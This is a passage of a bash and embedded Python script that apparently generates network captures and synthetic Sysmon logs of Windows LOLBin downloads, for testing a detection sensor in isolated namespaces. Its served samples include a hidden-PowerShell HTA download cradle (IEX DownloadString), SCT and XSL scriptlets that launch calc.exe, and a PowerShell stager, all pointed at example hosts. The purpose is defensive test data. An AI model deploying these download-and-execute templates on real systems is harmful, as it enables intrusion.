#!/usr/bin/env bash
# make-hostev-set.sh: record pcaps/hostev-*.pcap, real captures of three Windows hosts doing
# LOLBin downloads (and two kinds of benign download), plus pcaps/hostev/: the matching
# synthetic Windows host event logs (Sysmon, MsiInstaller, BITS-Client) of each host in three
# shipping formats, a feed with garbage lines, and a manifest that says, for every HTTP
# transaction and TLS connection, which process the sensor must attribute it to.
#
# Real clients talk to real servers: curl (with each tool's User-Agent and headers, bound to
# the host's own source address with --interface) against an HTTP/1.x server written here in
# python3 that does its own framing (the design of make-detect-set.sh), and the same server
# behind TLS for the PowerShell row.  The host events are written after the capture, from the
# capture: every Sysmon network-connect event carries the real 5-tuple (the ephemeral port
# tshark reads from the pcap), and every event time is the real packet time of its flow plus
# the host's clock offset and a few milliseconds of jitter.
#
# Two network namespaces joined by one veth pair (the approach of make-detect-set.sh, with
# other names and addresses so the scripts never collide).  Three client addresses play three
# Windows hosts; the server namespace holds three "internet" addresses on its loopback, which
# the client reaches through 10.96.0.1; the client namespace has no default route:
#
#   lwe-client  lwe-c0  10.96.0.11/24 WS-ALICE  <-- veth -->  lwe-s0  10.96.0.1/24  lwe-server
#                       10.96.0.12/24 WS-BOB                   lo: 198.51.100.30/32 (web, packages)
#                       10.96.0.13/24 WS-CAROL                     198.51.100.31/32 (CDN, CRL, TLS :443)
#                 routes 198.51.100.30/32, 198.51.100.31/32,       203.0.113.60/32  (tool mirror)
#                        203.0.113.60/32 via 10.96.0.1
#
# Host names are mapped with curl --resolve (the captures hold no DNS; the DNS answers are in
# the Sysmon EID 22 events).  One capture per host, each with its own tcpdump on lwe-c0:
#   hostev-alice.pcap   WS-ALICE  10.96.0.11  host clock +2 s
#   hostev-bob.pcap     WS-BOB    10.96.0.12  host clock -30 s
#   hostev-carol.pcap   WS-CAROL  10.96.0.13  host clock +3 days (+259200 s)
#
# One table (HOSTS and flows_of() in lwe.py below) drives the clients, the server, the
# capture checks, the host events and the manifest.  Every served body is deterministic (fixed
# seeds and times; the CRL is signed by a throw-away CA whose RSA key comes from a fixed seed),
# the captures and therefore the host events are not byte-reproducible (ports, times).
#
# Needs root (namespaces, tcpdump).  Installs missing Debian packages with apt-get.
# Idempotent: removes namespaces left over from an earlier run, writes everything to a
# temporary directory and moves the set into place only when every check passes.  No packet
# leaves the two namespaces.
#
# Usage: sudo bash pcaps/make-hostev-set.sh [OUTPUT-DIR]     (default: pcaps/)
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
OUTDIR="$(cd "${1:-$HERE}" && pwd)"

NS_C=lwe-client
NS_S=lwe-server
IF_C=lwe-c0
IF_S=lwe-s0
IP_C=10.96.0.11                                      # WS-ALICE, the veth's primary address
IP_C_MORE=(10.96.0.12 10.96.0.13)                   # WS-BOB, WS-CAROL
IP_S=10.96.0.1
MAC_C=02:10:96:00:00:02
MAC_S=02:10:96:00:00:01
EXT_ADDRS=(198.51.100.30 198.51.100.31 203.0.113.60)   # on lo in lwe-server, routed via $IP_S
PY=/usr/bin/python3
FAKETIME='2024-01-01 00:00:00'
CA_SEED=hostev-test-root-1
CA_SUBJECT='/C=US/O=Example CA (lolwire test)/CN=Example Host-Event Test CA 2024'
export LWE_NS_C=$NS_C LWE_NS_S=$NS_S LWE_IP_S=$IP_S

# shellcheck source=netns-lib.sh
. "$HERE/netns-lib.sh"

# ---------------------------------------------------------------------------------------
# Tools.  command -> Debian package; install whatever is missing.
# ---------------------------------------------------------------------------------------
declare -A PKG_OF=(
    [ip]=iproute2 [ss]=iproute2 [ethtool]=ethtool [tcpdump]=tcpdump [tshark]=tshark
    [curl]=curl [openssl]=openssl [wixl]=wixl [msiinfo]=msitools [msibuild]=msitools
    [unzip]=unzip [faketime]=faketime [file]=file [sha256sum]=coreutils
)
mapfile -t missing < <(lw_missing_commands)
[ -x "$PY" ] || missing+=(python3)
lw_install "${missing[@]}"

lw_remove_leftovers

TMP="$(mktemp -d /tmp/lolwire-hostev.XXXXXX)"
WWW="$TMP/www"      # what the server serves
PC="$TMP/pcap"      # captures before they are moved into place
OUT="$TMP/out"      # pcaps/hostev/ before it is moved into place
CA="$TMP/ca"
mkdir -p "$WWW" "$TMP/got" "$PC" "$OUT" "$CA" "$TMP/tls"

# ---------------------------------------------------------------------------------------
# lwe.py: the table, content builder, HTTP(S) server, clients, capture checks, host events,
# manifest, validation.
# ---------------------------------------------------------------------------------------
cat >"$TMP/lwe.py" <<'PYEOF'
"""Helper for make-hostev-set.sh.  One table (HOSTS, flows_of) drives the clients, the server,
the checks, the host events and the manifest.

  lwe.py check-table                  consistency checks of the table
  lwe.py build TMP                    write the served files the shell does not build
  lwe.py rsa-key SEED OUT             deterministic RSA-2048 key (PKCS#1 PEM) for the throw-away CA
  lwe.py hosts                        "tag<TAB>name<TAB>ip" per host, in capture order
  lwe.py serve TMP                    HTTP/1.x server on :80, HTTPS on the TLS rows' address :443
  lwe.py run TAG TMP                  the clients of one host (root namespace; each client runs
                                      through `ip netns exec`)
  lwe.py verify TAG PCAP TMP          check one capture with tshark against the table
  lwe.py events TMP PCAPDIR OUTDIR    write the host event files, garbage.jsonl, manifest.tsv
  lwe.py validate TMP PCAPDIR OUTDIR  parse every file back and check it against the captures
  lwe.py summary OUTDIR               counts per capture, file and EventID
"""
import base64, collections, datetime, email.utils, hashlib, json, os, random, re, socket
import socketserver, ssl, struct, subprocess, sys, threading, time, uuid, zipfile
import xml.etree.ElementTree as ET
from xml.sax.saxutils import escape

NS_C = os.environ.get("LWE_NS_C", "lwe-client")
NS_S = os.environ.get("LWE_NS_S", "lwe-server")
IP_S = os.environ.get("LWE_IP_S", "10.96.0.1")
WEB = "198.51.100.30"      # web portal, package host, www.example.com
CDN = "198.51.100.31"      # CDN, CRL, the TLS stager (:443)
MIRROR = "203.0.113.60"    # tool mirror
SERVER_ADDRS = (IP_S, WEB, CDN, MIRROR)
PY = sys.executable or "/usr/bin/python3"
MAX_PCAP = 150 * 1024
LAST_MODIFIED = "Mon, 01 Jan 2024 00:00:00 GMT"
SERVER = "lolwire-testd/1.0 Python/" + ".".join(map(str, sys.version_info[:3]))

UA_BROWSER = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
              "Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0")
UA_IE7 = ("Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; Win64; x64; Trident/7.0; "
          ".NET4.0C; .NET4.0E)")
ACCEPT_HTML = ("text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,"
               "image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7")

# Client profiles: (User-Agent, request headers), as in make-detect-set.sh.  curl adds Host
# (and Accept: */*, which "Accept:" removes); a header given per row replaces the profile's
# header of the same name.
PROFILES = {
    "msiexec":   ("Windows Installer", ["Accept: */*", "Cache-Control: no-cache", "Connection: Keep-Alive"]),
    "certutil":  ("CertUtil URL Agent", ["Cache-Control: no-cache", "Pragma: no-cache", "Accept: */*",
                                         "Connection: Keep-Alive"]),
    "cryptoapi": ("Microsoft-CryptoAPI/10.0", ["Accept: */*", "Connection: Keep-Alive"]),
    "ie7":       (UA_IE7, ["Accept: */*", "Accept-Language: en-US", "UA-CPU: AMD64",
                           "Accept-Encoding: gzip, deflate", "Connection: Keep-Alive"]),
    "bits":      ("Microsoft BITS/7.8", ["Accept: */*", "Accept-Encoding: identity", "Connection: Keep-Alive"]),
    "ps51":      ("Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3803",
                  ["Accept:", "Connection: Keep-Alive"]),
    "browser":   (UA_BROWSER, ["Accept: " + ACCEPT_HTML, "Accept-Language: en-US,en;q=0.9",
                               "Accept-Encoding: gzip, deflate", "Upgrade-Insecure-Requests: 1",
                               "Connection: keep-alive"]),
}

# Host name -> server address.
IP_OF = {
    "pkg.example-soft.net": WEB, "news.example-portal.com": WEB, "www.example.com": WEB,
    "files.example-cdn.net": CDN, "crl.example-ca.com": CDN, "stage.example-tools.net": CDN,
    "dl.example-tools.net": MIRROR,
}
EXE = "application/x-msdownload"
IUS = "If-Unmodified-Since: " + LAST_MODIFIED


class Host:
    def __init__(self, tag, name, ip, offset, computer, domain, user, sid, prefix, tail, seq0,
                 logon_id, sysmon_pid, order, parents, integrity):
        self.tag, self.name, self.ip, self.offset = tag, name, ip, offset
        self.computer, self.domain, self.user, self.sid = computer, domain, user, sid
        self.prefix, self.tail, self.seq0, self.logon_id = prefix, tail, seq0, logon_id
        self.sysmon_pid, self.order, self.parents, self.integrity = sysmon_pid, order, parents, integrity
        self.capture = "hostev-%s.pcap" % tag
        self.account = "%s\\%s" % (domain, user)
        self.home = "C:\\Users\\%s" % user


# parents: which (not logged) process started each tool.  order: the order of the flows.
HOSTS = [
    Host("alice", "WS-ALICE", "10.96.0.11", 2, "WS-ALICE.corp.example.com", "CORP", "alice",
         "S-1-5-21-1004336348-1177238915-682003330-1104", "5b1c7e20", "000000000700", 0x04a2,
         0x2F8A1C, 3148,
         ["msiexec", "certutil", "mshta", "regsvr32", "bits", "powershell", "wmic", "edge", "cryptsvc"],
         {"msiexec": "winword", "certutil": "cmd", "mshta": "explorer", "regsvr32": "cmd", "bits": "cmd",
          "powershell": "cmd", "wmic": "cmd"}, "Medium"),
    Host("bob", "WS-BOB", "10.96.0.12", -30, "WS-BOB.corp.example.com", "CORP", "bob",
         "S-1-5-21-1004336348-1177238915-682003330-1117", "c3e9a4d1", "000000000800", 0x0377,
         0x1C3B07, 2976,
         ["cryptsvc", "edge", "certutil", "msiexec", "bits", "wmic", "regsvr32", "powershell", "mshta"],
         {"msiexec": "cmd", "certutil": "cmd", "mshta": "cmd", "regsvr32": "cmd", "bits": "cmd",
          "powershell": "explorer", "wmic": "cmd"}, "High"),
    Host("carol", "WS-CAROL", "10.96.0.13", 259200, "WS-CAROL", "WS-CAROL", "carol",
         "S-1-5-21-3623811015-3361044348-30300820-1001", "8e27f5b6", "000000000900", 0x05d1,
         0x04A1E3, 3320,
         ["edge", "msiexec", "powershell", "bits", "certutil", "wmic", "mshta", "regsvr32", "cryptsvc"],
         {"msiexec": "cmd", "certutil": "cmd", "mshta": "excel", "regsvr32": "cmd", "bits": "cmd",
          "powershell": "cmd", "wmic": "cmd"}, "Medium"),
]
HOST_BY_TAG = {h.tag: h for h in HOSTS}


class Tx:
    """One HTTP transaction, or (method TLS) one TLS connection carrying one HTTPS GET."""
    def __init__(self, method, host, uri, prof, expect, desc, body=None, ctype=None, rng=None,
                 hdrs=(), inner_uri=None):
        self.method, self.host, self.uri, self.prof = method, host, uri, prof
        self.expect, self.desc, self.body, self.ctype = expect, desc, body, ctype
        self.rng, self.hdrs, self.inner_uri = rng, list(hdrs), inner_uri
        self.ua = PROFILES[prof][0]
        self.status = 206 if rng else 200
        self.ip = IP_OF[host]
        self.port = 443 if method == "TLS" else 80

    def url(self):
        if self.method == "TLS":
            return "https://%s%s" % (self.host, self.inner_uri)
        return "http://%s%s" % (self.host, self.uri)


class Conn:
    def __init__(self, *txs):
        self.txs = list(txs)
        self.tls = txs[0].method == "TLS"


class Flow:
    def __init__(self, kind, conns):
        self.kind, self.conns = kind, conns

    def txs(self):
        return [t for c in self.conns for t in c.txs]


MSI_HOST, CU_HOST, PORTAL, CDN_HOST = ("pkg.example-soft.net", "dl.example-tools.net",
                                       "news.example-portal.com", "files.example-cdn.net")
TLS_HOST, WWW_HOST, CRL_HOST = "stage.example-tools.net", "www.example.com", "crl.example-ca.com"
L, D, CX = "lolbin", "decoy", "context"


def flows_of(h):
    """The flows of one host, in the order it makes them."""
    t, q = h.tag, "?h=" + h.tag
    f = {}
    f["msiexec"] = Flow("msiexec", [Conn(Tx(
        "GET", MSI_HOST, "/setup.msi" + q, "msiexec", L,
        "msiexec /i http://… /qn: real MSI (wixl); MsiInstaller 1040/1042 name the URL",
        body="setup-%s.msi" % t, ctype="application/x-msi"))])
    f["certutil"] = Flow("certutil", [
        Conn(Tx("GET", CU_HOST, "/nc.exe" + q, "certutil", L,
                "certutil -urlcache -f, first fetch (CertUtil URL Agent): PE32+ EXE",
                body="nc-%s.exe" % t, ctype=EXE)),
        Conn(Tx("GET", CU_HOST, "/nc.exe" + q, "cryptoapi", L,
                "certutil -urlcache -f, second fetch (CryptoAPI UA, new connection): same PE; "
                "EID 11/15 name C:\\Users\\Public\\nc.exe with this SHA-256 and HostUrl",
                body="nc-%s.exe" % t, ctype=EXE))])
    f["mshta"] = Flow("mshta", [Conn(Tx(
        "GET", PORTAL, "/app.hta" + q, "ie7", L, "mshta.exe http://…/app.hta: HTA (IE7-compatible UA)",
        body="app-%s.hta" % t, ctype="application/hta"))])
    f["regsvr32"] = Flow("regsvr32", [Conn(Tx(
        "GET", PORTAL, "/r.sct" + q, "ie7", L,
        "regsvr32 /s /n /u /i:http://…/r.sct scrobj.dll: COM scriptlet as text/plain",
        body="r-%s.sct" % t, ctype="text/plain"))])
    bits_note = ("bitsadmin /transfer job1 /download /priority normal http://%s/agent.exe%s "
                 "C:\\Users\\Public\\agent.exe; the connection belongs to the BITS service "
                 "(svchost.exe -k netsvcs -p -s BITS)" % (CDN_HOST, q))
    ranges = [(0, -1)]
    bits = [Tx("HEAD", CDN_HOST, "/agent.exe" + q, "bits", CX,
               "BITS HEAD before the download (attribute; the alert belongs to the GET): " + bits_note,
               body="agent-%s.exe" % t, ctype=EXE)]
    for i, r in enumerate(ranges):
        bits.append(Tx("GET", CDN_HOST, "/agent.exe" + q, "bits", L,
                       "BITS GET Range bytes=0-(size-1) after the HEAD, 206, PE32+ EXE: %s" % bits_note,
                       body="agent-%s.exe" % t, ctype=EXE, rng=r, hdrs=[IUS]))
    f["bits"] = Flow("bits", [Conn(*bits)])
    f["powershell"] = Flow("powershell", [Conn(Tx(
        "TLS", TLS_HOST, "-", "ps51", L,
        "powershell -c \"iwr https://…/p.ps1 | iex\": TLS 1.3 to 198.51.100.31:443, only the SNI is visible",
        body="p-%s.ps1" % t, ctype="text/plain", inner_uri="/p.ps1" + q))])
    f["wmic"] = Flow("wmic", [Conn(Tx(
        "GET", PORTAL, "/f.xsl" + q, "ie7", L, "wmic os get /format:\"http://…/f.xsl\": XSL with msxsl:script",
        body="f-%s.xsl" % t, ctype="text/xml"))])
    page = "/downloads.html" + q
    ref = "Referer: http://%s%s" % (WWW_HOST, page)
    edge = []
    if t == "bob":
        edge.append(Tx("GET", WWW_HOST, page, "browser", D,
                       "Edge page load before the download (network-service process): HTML",
                       body="downloads-%s.html" % t, ctype="text/html; charset=utf-8"))
    edge.append(Tx("GET", WWW_HOST, "/files/tool.zip" + q, "browser", D,
                   "Edge download of a ZIP of text files (network-service msedge.exe makes the "
                   "connection; the browser process writes Downloads\\tool.zip, EID 15 HostUrl)",
                   body="tool-%s.zip" % t, ctype="application/zip", hdrs=[ref]))
    f["edge"] = Flow("edge", [Conn(*edge)])
    f["cryptsvc"] = Flow("cryptsvc", [Conn(Tx(
        "GET", CRL_HOST, "/pki/ca.crl" + q, "cryptoapi", D,
        "CryptSvc (svchost.exe -k NetworkService -p -s CryptSvc) CRL fetch: DER CRL",
        body="ca-%s.crl" % t, ctype="application/pkix-crl"))])
    assert sorted(f) == sorted(h.order)
    return [f[k] for k in h.order]


def check_table():
    problems, seen = [], set()
    for h in HOSTS:
        for fl in flows_of(h):
            for c in fl.conns:
                if c.tls and len(c.txs) != 1:
                    problems.append("TLS connection with more than one row")
                for x in c.txs:
                    key = (h.ip, x.method, x.host, x.uri, x.ua, x.rng)
                    if key in seen:
                        problems.append("duplicate row %r" % (key,))
                    seen.add(key)
                    for v in (x.method, x.host, x.uri, x.ua, x.expect, x.desc):
                        if "\t" in v or "\n" in v:
                            problems.append("tab/newline in %r" % (key,))
                    if "%" in x.uri or " " in x.uri or "&" in x.uri:
                        problems.append("URI %r has %%, & or space" % x.uri)
                    if x.expect not in (L, D, CX):
                        problems.append("bad expect %r" % x.expect)
                    if x.ip not in SERVER_ADDRS:
                        problems.append("host %r has no server address" % x.host)
                    if h.tag not in x.uri + (x.inner_uri or ""):
                        problems.append("URI %r does not name the host" % x.uri)
    for p in problems:
        print("table: " + p, file=sys.stderr)
    return not problems


# --------------------------------------------------------------------------- content
def sha(b):
    return hashlib.sha256(b).hexdigest()


def stream(seed, n):
    return random.Random(seed).randbytes(n)


def pe_checksum(data, off):
    s = 0
    for i in range(0, len(data), 2):
        if off <= i < off + 4:
            continue
        s += data[i] | ((data[i + 1] << 8) if i + 1 < len(data) else 0)
        s = (s & 0xFFFF) + (s >> 16)
    s = (s & 0xFFFF) + (s >> 16)
    return (s + len(data)) & 0xFFFFFFFF


def pe64(tag):
    """A small, structurally valid PE32+ console EXE for x86-64 (7168 bytes, no imports), as in
    make-detect-set.sh; TAG goes into .rdata and seeds its filler.  Never run."""
    HDR, TEXT, RDATA = 0x400, 0x1000, 0x800
    pe = bytearray(HDR + TEXT + RDATA)
    pe[0:2] = b"MZ"
    struct.pack_into("<13H", pe, 2, 0x90, 3, 0, 4, 0, 0xFFFF, 0, 0xB8, 0, 0, 0, 0x40, 0)
    struct.pack_into("<I", pe, 0x3C, 0x80)
    stub = (b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21"
            b"This program cannot be run in DOS mode.\r\r\n$")
    pe[0x40:0x40 + len(stub)] = stub
    pe[0x80:0x84] = b"PE\0\0"
    struct.pack_into("<HHIIIHH", pe, 0x84, 0x8664, 2, 0x65920080, 0, 0, 0xF0, 0x0022)
    o = 0x98
    struct.pack_into("<HBBIIIII", pe, o, 0x20B, 14, 36, TEXT, RDATA, 0, 0x1000, 0x1000)
    struct.pack_into("<Q", pe, o + 24, 0x140000000)
    struct.pack_into("<II", pe, o + 32, 0x1000, 0x200)
    struct.pack_into("<HHHHHH", pe, o + 40, 6, 0, 0, 0, 6, 0)
    struct.pack_into("<III", pe, o + 52, 0, 0x3000, HDR)
    struct.pack_into("<HH", pe, o + 68, 3, 0x8160)
    struct.pack_into("<QQQQII", pe, o + 72, 0x100000, 0x1000, 0x100000, 0x1000, 0, 16)
    sec = o + 0xF0
    struct.pack_into("<8sIIIIIIHHI", pe, sec, b".text", TEXT, 0x1000, TEXT, HDR, 0, 0, 0, 0, 0x60000020)
    struct.pack_into("<8sIIIIIIHHI", pe, sec + 40, b".rdata", RDATA, 0x2000, RDATA, HDR + TEXT,
                     0, 0, 0, 0, 0x40000040)
    code = b"\x31\xc0\xc3"
    pe[HDR:HDR + TEXT] = code + b"\xcc" * (TEXT - len(code))
    text = ("lolwire host-event test set (%s): a harmless PE32+ that is never run.\0" % tag).encode()
    pe[HDR + TEXT:HDR + TEXT + RDATA] = text + stream("pe:" + tag, RDATA - len(text))
    struct.pack_into("<I", pe, o + 64, pe_checksum(pe, o + 64))
    return bytes(pe)


HTA = ('<html>\n<head>\n<title>{title}</title>\n'
       '<HTA:APPLICATION ID="oApp" APPLICATIONNAME="{app}" BORDER="none" SHOWINTASKBAR="no" '
       'WINDOWSTATE="minimize"/>\n<script language="VBScript">\nSub Window_OnLoad\n'
       '  Set sh = CreateObject("WScript.Shell")\n  sh.Run "powershell -nop -w hidden -c ""IEX '
       '(New-Object Net.WebClient).DownloadString(\'http://{host}/s/run.ps1\')""", 0, False\n'
       '  self.close\nEnd Sub\n</script>\n</head>\n<body></body>\n</html>\n')
SCT = ('<?XML version="1.0"?>\n<scriptlet>\n<registration description="{d}" progid="{d}" '
       'version="1.00" classid="{{{c}}}">\n<script language="JScript">\n<![CDATA[\n'
       '  var r = new ActiveXObject("WScript.Shell").Run("calc.exe");\n]]>\n</script>\n'
       '</registration>\n</scriptlet>\n')
XSL = ('<?xml version="1.0"?>\n'
       '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"\n'
       '    xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:user="http://example.com/{tag}">\n'
       '<msxsl:script language="JScript" implements-prefix="user">\n<![CDATA[\n'
       'function run() {{ var r = new ActiveXObject("WScript.Shell").Run("calc.exe"); '
       'return ""; }}\n]]>\n</msxsl:script>\n'
       '<xsl:template match="/"><xsl:value-of select="user:run()"/></xsl:template>\n'
       '</xsl:stylesheet>\n')


def zip_deterministic(path, members):
    with zipfile.ZipFile(path, "w") as z:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.create_system = 0
            zi.external_attr = 0x20
            z.writestr(zi, data, compresslevel=9)


def build(tmp):
    www = os.path.join(tmp, "www")

    def put(name, data):
        with open(os.path.join(www, name), "wb") as f:
            f.write(data if isinstance(data, bytes) else data.encode())

    for h in HOSTS:
        t = h.tag
        put("nc-%s.exe" % t, pe64("nc-" + t))
        put("agent-%s.exe" % t, pe64("agent-" + t))
        put("app-%s.hta" % t, HTA.format(title="Update (%s)" % h.name, app="Updater", host=PORTAL))
        put("r-%s.sct" % t, SCT.format(d="Updater" + t.capitalize(),
                                       c="F000%04X-0000-0000-0000-0000FEEDACDC" % (0x1111 * (HOSTS.index(h) + 1))))
        put("f-%s.xsl" % t, XSL.format(tag=t))
        put("p-%s.ps1" % t, "$u = 'http://%s/agent.exe?h=%s'\r\n"
                             "Start-BitsTransfer -Source $u -Destination \"$env:PUBLIC\\agent.exe\"\r\n"
                             "Start-Process \"$env:PUBLIC\\agent.exe\"\r\n" % (CDN_HOST, t))
        put("downloads-%s.html" % t, '<!DOCTYPE html>\n<html lang="en">\n<head><meta charset="utf-8">'
                                     '<title>Downloads</title></head>\n<body>\n<h1>Tools</h1>\n'
                                     '<p><a href="/files/tool.zip?h=%s">tool.zip</a> (text files only)</p>\n'
                                     '</body>\n</html>\n' % t)
        zip_deterministic(os.path.join(www, "tool-%s.zip" % t), [
            ("README.txt", "tool 1.0 for %s\r\nNothing executable in here.\r\n" % h.name),
            ("tool.cfg", "".join("option%02d=%d\r\n" % (i, i * 7) for i in range(30))),
            ("CHANGES.txt", "".join("1.0.%d: fixed item %d\r\n" % (i, i) for i in range(20)))])


# --------------------------------------------------------------------------- CA helper
def der_len(n):
    if n < 0x80:
        return bytes((n,))
    b = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes((0x80 | len(b),)) + b


def der(tag, content):
    return bytes((tag,)) + der_len(len(content)) + content


def der_int(v):
    return der(0x02, v.to_bytes(v.bit_length() // 8 + 1, "big"))


def rsa_key(seed, out):
    """A deterministic RSA-2048 key (so the CRLs have the same bytes on every run; RSA PKCS#1
    v1.5 signatures are deterministic).  Test-only, never secret.  As in make-detect-set.sh."""
    rnd = random.Random("lolwire-ca:" + seed)
    small = [p for p in range(3, 2000, 2) if all(p % q for q in range(3, int(p ** 0.5) + 1, 2))]

    def probable_prime(n):
        if any(n % p == 0 for p in small):
            return False
        d, s = n - 1, 0
        while d % 2 == 0:
            d, s = d // 2, s + 1
        w = random.Random(n)
        for _ in range(40):
            x = pow(w.randrange(2, n - 2), d, n)
            if x in (1, n - 1):
                continue
            for _ in range(s - 1):
                x = pow(x, 2, n)
                if x == n - 1:
                    break
            else:
                return False
        return True

    e = 65537

    def prime():
        while True:
            c = rnd.getrandbits(1024) | (3 << 1022) | 1
            if (c - 1) % e and probable_prime(c):
                return c
    p, q = prime(), prime()
    if p < q:
        p, q = q, p
    n = p * q
    import math
    lam = (p - 1) * (q - 1) // math.gcd(p - 1, q - 1)
    d = pow(e, -1, lam)
    key = der(0x30, b"".join(der_int(v) for v in (0, n, e, d, p, q, d % (p - 1), d % (q - 1), pow(q, -1, p))))
    b64 = base64.b64encode(key).decode()
    with open(out, "w") as f:
        f.write("-----BEGIN RSA PRIVATE KEY-----\n")
        f.write("".join(b64[i:i + 64] + "\n" for i in range(0, len(b64), 64)))
        f.write("-----END RSA PRIVATE KEY-----\n")


# --------------------------------------------------------------------------- expectations
def www_file(tmp, name):
    with open(os.path.join(tmp, "www", name), "rb") as f:
        return f.read()


def concrete_range(tmp, x):
    a, b = x.rng
    return (a, len(www_file(tmp, x.body)) - 1 if b == -1 else b)


def expected_body(tmp, x):
    """The body the client receives, or None (HEAD)."""
    if x.method == "HEAD":
        return None
    data = www_file(tmp, x.body)
    if x.rng:
        a, b = concrete_range(tmp, x)
        return data[a:b + 1]
    return data


# --------------------------------------------------------------------------- server
class Conn_:
    def __init__(self, sock):
        self.s, self.buf = sock, b""

    def more(self):
        d = self.s.recv(65536)
        if not d:
            raise EOFError
        self.buf += d

    def head(self):
        while b"\r\n\r\n" not in self.buf:
            try:
                self.more()
            except EOFError:
                if self.buf:
                    raise
                return None
        raw, self.buf = self.buf.split(b"\r\n\r\n", 1)
        lines = raw.decode("latin-1").split("\r\n")
        hdrs = {}
        for line in lines[1:]:
            k, _, v = line.partition(":")
            hdrs[k.strip().lower()] = v.strip()
        return lines[0], hdrs


def head_bytes(status_line, headers):
    base = [("Date", email.utils.formatdate(usegmt=True)), ("Server", SERVER)]
    return ("\r\n".join([status_line] + ["%s: %s" % kv for kv in base + headers])
            + "\r\n\r\n").encode("latin-1")


REASON = {200: "OK", 206: "Partial Content", 404: "Not Found"}


def close_gently(sock):
    """FIN, then read what the peer still sends until its FIN, so close() sends no RST.  On a
    TLS socket this runs after the client's close_notify: nothing more is sent."""
    try:
        sock.shutdown(socket.SHUT_WR)
        sock.settimeout(2)
        while sock.recv(65536):
            pass
    except (OSError, ssl.SSLError, ValueError):
        pass
    sock.close()


class Handler(socketserver.BaseRequestHandler):
    tmp = "."
    route = {}
    tls_ctx = None

    def handle(self):
        sock = self.request
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if self.tls_ctx is not None and sock.getsockname()[1] == 443:
            try:
                sock = self.tls_ctx.wrap_socket(sock, server_side=True)
            except (ssl.SSLError, OSError) as e:
                print("TLS handshake failed: %s" % e, file=sys.stderr)
                close_gently(self.request)
                return
        c = Conn_(sock)
        try:
            while True:
                r = c.head()
                if r is None:
                    break
                if not self.dispatch(c, *r):
                    break
        except (EOFError, ConnectionError, ssl.SSLError):
            pass
        finally:
            close_gently(sock)

    def dispatch(self, c, reqline, h):
        method, target, version = reqline.split(" ", 2)
        conn = h.get("connection", "").lower()
        keep = (version == "HTTP/1.1" and conn != "close") or conn == "keep-alive"
        x = self.route.get((method, h.get("host", ""), target))
        st = "HTTP/1.1 %d %s"
        if x is None:
            msg = b"not found\n"
            c.s.sendall(head_bytes(st % (404, REASON[404]), [("Content-Type", "text/plain"),
                                                             ("Content-Length", len(msg))]) + msg)
            print("404 for %s %s %s" % (method, h.get("host"), target), file=sys.stderr)
            return keep
        data = www_file(self.tmp, x.body)
        common = [("Last-Modified", LAST_MODIFIED), ("ETag", '"%s"' % sha(data)[:16]), ("Accept-Ranges", "bytes")]
        status, out = 200, data
        if method == "GET" and h.get("range", "").startswith("bytes="):
            a, _, b = h["range"][6:].partition("-")
            a, b = int(a), (int(b) if b else len(data) - 1)
            out = data[a:b + 1]
            common.append(("Content-Range", "bytes %d-%d/%d" % (a, a + len(out) - 1, len(data))))
            status = 206
        hdr = head_bytes(st % (status, REASON[status]), [("Content-Type", x.ctype), ("Content-Length", len(out))]
                         + common)
        c.s.sendall(hdr if method == "HEAD" else hdr + out)
        return keep


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


def serve(tmp):
    Handler.tmp = tmp
    tls_addr = set()
    for h in HOSTS:
        for fl in flows_of(h):
            for x in fl.txs():
                if x.method == "TLS":
                    Handler.route[("GET", x.host, x.inner_uri)] = x
                    tls_addr.add((x.ip, x.host))
                else:
                    Handler.route[(x.method, x.host, x.uri)] = x
    assert len(tls_addr) == 1
    ip, name = tls_addr.pop()
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    ctx.load_cert_chain(os.path.join(tmp, "tls", name + ".crt"), os.path.join(tmp, "tls", name + ".key"))
    ctx.set_alpn_protocols(["http/1.1"])
    Handler.tls_ctx = ctx
    tls = Server((ip, 443), Handler)
    threading.Thread(target=tls.serve_forever, daemon=True).start()
    Server(("0.0.0.0", 80), Handler).serve_forever()


# --------------------------------------------------------------------------- clients
def headers_of(x):
    base = PROFILES[x.prof][1]
    names = {hd.split(":", 1)[0].lower() for hd in x.hdrs}
    return [hd for hd in base if hd.split(":", 1)[0].lower() not in names] + x.hdrs


def log(msg):
    print("make-hostev-set:   " + msg, file=sys.stderr)


def fail(msg):
    log("error: " + msg)
    sys.exit(1)


def netns(ns, *cmd):
    return ["ip", "netns", "exec", ns] + list(cmd)


def run_curl(tmp, h, conn, n):
    """One curl process = one TCP connection (curl reuses it for --next transfers)."""
    args, outs = [], []
    for i, x in enumerate(conn.txs):
        out = os.path.join(tmp, "got", "%s-%d-%d" % (h.tag, n, i))
        outs.append(out)
        a = ["-sS", "--interface", h.ip, "-o", out, "-w", r"%{http_code}\t%{content_type}\t%{num_connects}\n",
             "--resolve", "%s:%d:%s" % (x.host, x.port, x.ip), "-A", x.ua]
        hs = headers_of(x)
        for hd in hs:
            a += ["-H", hd]
        if any(hd.lower().startswith("accept-encoding:") and "gzip" in hd for hd in hs):
            a.append("--compressed")
        if x.rng:
            a += ["-r", "%d-%d" % concrete_range(tmp, x)]
        if x.method == "HEAD":
            a.append("-I")
        if x.method == "TLS":
            a += ["-k", "--http1.1", "--tlsv1.3"]
        a.append(x.url())
        if i:
            args.append("--next")
        args += a
    p = subprocess.run(netns(NS_C, "curl", *args), capture_output=True, text=True)
    if p.returncode != 0:
